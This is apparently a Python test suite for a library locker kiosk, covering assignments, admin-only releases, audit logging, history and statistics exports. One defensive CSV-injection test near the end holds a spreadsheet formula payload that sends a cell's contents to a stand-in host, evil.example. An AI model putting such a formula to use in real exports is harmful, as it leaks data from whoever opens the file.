"""Locker operations on a real SQLite file, and a stateful test of their invariants."""

from pathlib import Path

import pytest
from hypothesis import settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, rule
from sqlalchemy import insert

from kiosk.core.lockers import LockerError
from kiosk.store.db import open_store
from kiosk.store.lockers import LockerDesk, Operator, Role
from kiosk.store.models import LockerAssignment

STAFF = Operator("desk", Role.STAFF)
ADMIN = Operator("admin", Role.ADMIN)
ROSTER = ["CS2021001", "CS2021002", "EC2021001", "ME2021001", "CS2021003"]


def desk_at(path: Path, lockers: int = 3) -> LockerDesk:
    desk = LockerDesk(open_store(f"sqlite:///{path}"))
    desk.ensure_lockers(lockers, per_bank=2)
    for n, enrollment in enumerate(ROSTER):
        desk.add_member(enrollment, f"Member {n}", "CS", STAFF)
    return desk


def test_assign_exit_and_the_messages_for_each_refusal(tmp_path: Path) -> None:
    desk = desk_at(tmp_path / "k.db")
    first = desk.assign("cs2021001", STAFF)
    assert first.locker == 1 and first.due_at > first.assigned_at
    with pytest.raises(LockerError, match="already has locker 1"):
        desk.assign("CS2021001", STAFF)
    with pytest.raises(LockerError, match="not on the roster"):
        desk.assign("XX2021999", STAFF)
    with pytest.raises(LockerError, match="in use"):
        desk.assign("CS2021002", STAFF, locker=1)
    desk.assign("CS2021002", STAFF)
    desk.assign("EC2021001", STAFF)
    with pytest.raises(LockerError, match="No locker is free"):
        desk.assign("ME2021001", STAFF)
    assert desk.exit("CS2021001", STAFF).release_kind == "exit"
    assert desk.assign("ME2021001", STAFF).locker == 1


def test_only_an_admin_may_force_a_locker_free_and_it_needs_a_reason(tmp_path: Path) -> None:
    desk = desk_at(tmp_path / "k.db")
    desk.assign("CS2021001", STAFF)
    with pytest.raises(PermissionError):
        desk.force_exit(1, "left without the key", STAFF)
    with pytest.raises(LockerError, match="needs a reason"):
        desk.force_exit(1, "  ", ADMIN)
    assert desk.force_exit(1, "left without the key", ADMIN).release_kind == "force"
    with pytest.raises(PermissionError):
        desk.set_out_of_order(2, True, "broken hinge", STAFF)


def test_the_database_refuses_a_second_active_assignment_even_behind_the_rules(tmp_path: Path) -> None:
    """Two stations racing past the checks: the partial unique indexes still hold."""
    from sqlalchemy.exc import IntegrityError

    desk = desk_at(tmp_path / "k.db")
    desk.assign("CS2021001", STAFF)
    engine = open_store(f"sqlite:///{tmp_path / 'k.db'}")
    for row in ({"locker": 1, "member": "CS2021002"}, {"locker": 2, "member": "CS2021001"}):
        with pytest.raises(IntegrityError), engine.begin() as connection:
            connection.execute(insert(LockerAssignment), [{**row, "assigned_at": 1.0, "due_at": 2.0,
                                                            "assigned_by": "x"}])


class LockerMachine(RuleBasedStateMachine):
    """Random assign / exit / force-exit / out-of-order sequences against a plain model of the truth."""

    def __init__(self) -> None:
        super().__init__()
        import tempfile

        self._tmp = tempfile.TemporaryDirectory()
        self.desk = desk_at(Path(self._tmp.name) / "k.db", lockers=3)
        self.holder: dict[str, int] = {}  # member -> locker
        self.broken: set[int] = set()
        self.releases = 0

    def teardown(self) -> None:
        self._tmp.cleanup()

    @rule(member=st.sampled_from(ROSTER), locker=st.one_of(st.none(), st.integers(1, 4)))
    def assign(self, member: str, locker: int | None) -> None:
        taken = set(self.holder.values())
        free = [n for n in (1, 2, 3) if n not in taken and n not in self.broken]
        allowed = member not in self.holder and (free if locker is None else locker in free)
        try:
            got = self.desk.assign(member, STAFF, locker)
        except LockerError:
            assert not allowed
            return
        assert allowed and got.locker == (locker if locker is not None else min(free))
        self.holder[member] = got.locker

    @rule(member=st.sampled_from(ROSTER))
    def exit(self, member: str) -> None:
        try:
            self.desk.exit(member, STAFF)
        except LockerError:
            assert member not in self.holder
            return
        del self.holder[member]
        self.releases += 1

    @rule(locker=st.integers(1, 3), admin=st.booleans())
    def force_exit(self, locker: int, admin: bool) -> None:
        try:
            self.desk.force_exit(locker, "test", ADMIN if admin else STAFF)
        except PermissionError:
            assert not admin
            return
        except LockerError:
            assert locker not in self.holder.values()
            return
        member = next(m for m, n in self.holder.items() if n == locker)
        del self.holder[member]
        self.releases += 1

    @rule(locker=st.integers(1, 3), out=st.booleans())
    def out_of_order(self, locker: int, out: bool) -> None:
        try:
            self.desk.set_out_of_order(locker, out, "", ADMIN)
        except LockerError:
            assert out and locker in self.holder.values()
            return
        (self.broken.add if out else self.broken.discard)(locker)

    @invariant()
    def matches_the_model(self) -> None:
        active = self.desk.active()
        assert {a.member: a.locker for a in active} == self.holder
        assert len({a.locker for a in active}) == len(active)  # one per locker
        assert sum(1 for a in self.desk.history() if a.released_at is not None) == self.releases
        assert not (set(self.holder.values()) & self.broken)
        history = self.desk.history()
        figures = self.desk.statistics(0, 4e9)  # the hourly counts agree with the history they summarise
        assert figures.assignments == len(history)
        assert figures.forced == sum(1 for a in history if a.release_kind == "force")


TestLockerInvariants = LockerMachine.TestCase
TestLockerInvariants.settings = settings(max_examples=40, stateful_step_count=25, deadline=None)


def test_importing_the_demo_roster_twice_adds_it_once(tmp_path: Path) -> None:
    from kiosk.core.lockers import demo_roster_csv, preview_roster

    desk = LockerDesk(open_store(f"sqlite:///{tmp_path / 'k.db'}"))
    text = demo_roster_csv()
    assert desk.import_roster(preview_roster(text, desk.enrollments()), ADMIN) == 10
    again = preview_roster(text, desk.enrollments())
    assert len(again.known) == 10 and desk.import_roster(again, ADMIN) == 0
    assert desk.member_count() == 10


class Clock:
    def __init__(self, start: float) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now


def clocked_desk(path: Path, lockers: int = 4) -> tuple[LockerDesk, Clock]:
    from datetime import datetime

    clock = Clock(datetime(2026, 11, 2, 9, 0).timestamp())  # a Monday, 09:00 local
    desk = LockerDesk(open_store(f"sqlite:///{path}"), clock=clock)
    desk.ensure_lockers(lockers, per_bank=2, labels=("Ground floor",))
    for n, enrollment in enumerate(ROSTER):
        desk.add_member(enrollment, f"Member {n}", "CS", STAFF)
    return desk, clock


def test_a_member_who_has_a_locker_is_told_which_one(tmp_path: Path) -> None:
    from kiosk.core.lockers import AlreadyAssigned

    desk, _ = clocked_desk(tmp_path / "k.db")
    desk.assign("CS2021001", STAFF, locker=3)
    with pytest.raises(AlreadyAssigned) as refused:
        desk.assign("CS2021001", STAFF)
    assert refused.value.locker == 3 and "Scan the card again" in str(refused.value)


def test_the_board_shows_holders_banks_and_states(tmp_path: Path) -> None:
    from kiosk.core.lockers import LockerStatus

    desk, clock = clocked_desk(tmp_path / "k.db")
    desk.assign("CS2021001", STAFF)
    desk.set_out_of_order(4, True, "hinge", ADMIN)
    board = desk.board()
    assert [(s.number, s.bank) for s in board] == [(1, "Ground floor"), (2, "Ground floor"), (3, "Bank B"),
                                                  (4, "Bank B")]
    assert board[0].member == "CS2021001" and board[0].name == "Member 0" and board[3].note == "hinge"
    assert [s.status(clock.now) for s in board] == [LockerStatus.IN_USE, LockerStatus.FREE, LockerStatus.FREE,
                                                    LockerStatus.OUT_OF_ORDER]
    clock.now += 5 * 3600  # past the default 4 h
    counts = desk.counts()
    assert (counts.free, counts.in_use, counts.overdue, counts.out_of_order) == (2, 1, 1, 1)


def test_fewer_lockers_hides_the_free_ones_above_but_not_a_held_one(tmp_path: Path) -> None:
    desk, _ = clocked_desk(tmp_path / "k.db")
    desk.assign("CS2021001", STAFF, locker=4)
    desk.ensure_lockers(2, per_bank=2)
    assert [s.number for s in desk.board()] == [1, 2, 4]
    desk.exit("CS2021001", STAFF)
    assert [s.number for s in desk.board()] == [1, 2]
    with pytest.raises(LockerError, match="no locker 4"):
        desk.assign("CS2021002", STAFF, locker=4)


def test_release_all_overdue_is_for_an_admin_with_a_reason_and_audited(tmp_path: Path) -> None:
    from sqlalchemy import select
    from sqlalchemy.orm import Session

    from kiosk.store.models import AuditEntry

    desk, clock = clocked_desk(tmp_path / "k.db")
    desk.assign("CS2021001", STAFF)
    clock.now += 3 * 3600
    desk.assign("CS2021002", STAFF)
    clock.now += 2 * 3600  # the first is overdue (5 h), the second is not (2 h)
    with pytest.raises(PermissionError):
        desk.release_overdue("closing", STAFF)
    with pytest.raises(LockerError, match="needs a reason"):
        desk.release_overdue(" ", ADMIN)
    released = desk.release_overdue("library closing", ADMIN)
    assert [(a.locker, a.member, a.release_kind) for a in released] == [(1, "CS2021001", "overdue")]
    assert [a.member for a in desk.active()] == ["CS2021002"]
    with Session(desk._engine) as session:
        rows = session.execute(select(AuditEntry.actor, AuditEntry.action, AuditEntry.target, AuditEntry.detail)
                               .where(AuditEntry.action == "locker.overdue")).all()
    assert rows == [("admin", "locker.overdue", "1", "CS2021001 library closing")]


def test_members_can_be_edited_and_searched(tmp_path: Path) -> None:
    desk, _ = clocked_desk(tmp_path / "k.db")
    desk.edit_member("cs2021002", "Priya Patel", "Computer Science", STAFF)
    desk.assign("CS2021002", STAFF)
    found = desk.members("priya")
    assert [(m.enrollment, m.name, m.programme, m.locker) for m in found] == \
        [("CS2021002", "Priya Patel", "Computer Science", 1)]
    assert [m.enrollment for m in desk.members("ec20")] == ["EC2021001"]
    assert desk.members("100%") == []  # LIKE wildcards in the search are taken literally
    with pytest.raises(LockerError, match="not on the roster"):
        desk.edit_member("CS2029999", "X", "", STAFF)


def test_history_filters_by_member_locker_and_dates(tmp_path: Path) -> None:
    desk, clock = clocked_desk(tmp_path / "k.db")
    start = clock.now
    for member in ("CS2021001", "CS2021002", "CS2021001"):
        desk.assign(member, STAFF)
        clock.now += 3600
        desk.exit(member, STAFF)
        clock.now += 86400
    from kiosk.store.lockers import HistoryFilter

    rows, more = desk.history_rows(HistoryFilter(member="member 0"))
    assert [r.member for r in rows] == ["CS2021001", "CS2021001"] and not more
    assert rows[0].assigned_at > rows[1].assigned_at  # newest first
    rows, _ = desk.history_rows(HistoryFilter(since=start + 86400, until=start + 2 * 86400))
    assert [r.member for r in rows] == ["CS2021002"]
    rows, more = desk.history_rows(HistoryFilter(locker=1), limit=2)
    assert len(rows) == 2 and more
    assert desk.history_rows(HistoryFilter(locker=2))[0] == []


def test_statistics_and_their_csv(tmp_path: Path) -> None:
    import csv
    import io

    desk, clock = clocked_desk(tmp_path / "k.db")
    start = clock.now
    desk.assign("CS2021001", STAFF)  # 09:00
    clock.now += 1800
    desk.assign("CS2021002", STAFF)  # 09:30
    clock.now += 1800
    desk.exit("CS2021001", STAFF)  # held 1 h
    desk.exit("CS2021002", STAFF)  # held 30 min
    clock.now += 86400 + 5 * 3600
    desk.assign("EC2021001", STAFF)  # the next day, 15:00
    desk.force_exit(1, "test", ADMIN)
    figures = desk.statistics(start, clock.now + 1)
    assert figures.assignments == 3 and figures.forced == 1
    assert figures.per_day == [("2026-11-02", 2), ("2026-11-03", 1)]
    assert figures.per_hour[9] == 2 and figures.per_hour[15] == 1 and figures.busiest_hours == [9, 15]
    assert figures.average_duration_s == pytest.approx((3600 + 1800 + 0) / 3)
    out = io.StringIO()
    desk.export_statistics(figures, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert ["per day", "2026-11-02", "2"] in rows and ["per hour", "09:00", "2"] in rows
    assert ["totals", "assignments", "3"] in rows


def test_history_export_writes_every_matching_row_and_can_be_cancelled(tmp_path: Path) -> None:
    import csv
    import io

    from kiosk.store.lockers import HistoryFilter

    desk, clock = clocked_desk(tmp_path / "k.db")
    for _ in range(3):
        desk.assign("CS2021001", STAFF)
        clock.now += 600
        desk.exit("CS2021001", STAFF)
    out = io.StringIO()
    seen: list[int] = []
    assert desk.export_history(HistoryFilter(), out, lambda n: seen.append(n) or True) == 3
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0][:3] == ["locker", "enrollment", "name"] and len(rows) == 4
    assert rows[1][1] == "CS2021001" and rows[1][6] == "10" and rows[1][7] == "exit"
    assert seen[-1] == 3


def test_another_stations_change_is_seen_through_the_audit_log(tmp_path: Path) -> None:
    desk, _ = clocked_desk(tmp_path / "k.db")
    marker = desk.changed_since(0)
    assert marker > 0 and desk.changed_since(marker) == marker
    other = LockerDesk(open_store(f"sqlite:///{tmp_path / 'k.db'}"))
    other.assign("CS2021001", STAFF)
    assert desk.changed_since(marker) > marker


def test_a_roster_name_that_looks_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    """CSV injection: a roster row named =HYPERLINK(...) must not become a formula in a spreadsheet."""
    import csv
    import io

    from kiosk.core.lockers import preview_roster
    from kiosk.store.lockers import HistoryFilter

    desk, clock = clocked_desk(tmp_path / "k.db")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    roster = f"enrollment,name,programme\nCS2021099,{json_quote(evil)},@SUM(1+1)\n"
    assert desk.import_roster(preview_roster(roster, desk.enrollments()), ADMIN) == 1
    desk.assign("CS2021099", STAFF)
    clock.now += 60
    desk.force_exit(desk.history(1)[0].locker, "-2+3 lost key", ADMIN)
    out = io.StringIO()
    desk.export_history(HistoryFilter(), out, lambda _n: True)
    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row))
    assert cells["name"] == "'" + evil  # shown as text, the quote hidden
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert cells["duration_min"] == "1"  # numbers stay numbers


def json_quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_every_formula_start_is_guarded() -> None:
    from kiosk.protocol.spreadsheet import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Neha Rao") == "Neha Rao" and safe_cell(-3.5) == -3.5 and safe_cell(None) is None
